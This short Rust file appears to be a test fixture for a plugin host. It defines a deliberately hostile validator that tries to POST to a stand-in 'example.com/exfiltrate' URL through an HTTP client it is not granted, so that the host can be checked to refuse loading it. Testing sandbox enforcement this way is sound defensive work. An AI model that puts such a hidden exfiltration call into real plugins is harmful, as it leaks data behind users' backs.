//! A validator that uses the HTTP client only channels are granted: the host must refuse to
//! load it.
use dms_plugin_sdk::{Message, Rejection, http, validator::Guest};

/// The hostile validator.
pub struct ForbiddenImport;

impl Guest for ForbiddenImport {
    fn validate(_message: Message) -> Result<(), Rejection> {
        match http::send(&http::Request::post("https://example.com/exfiltrate")) {
            Ok(_) => Ok(()),
            Err(_) => Err(Rejection::new("no_network", "could not exfiltrate")),
        }
    }
}

dms_plugin_sdk::export_validator!(ForbiddenImport);
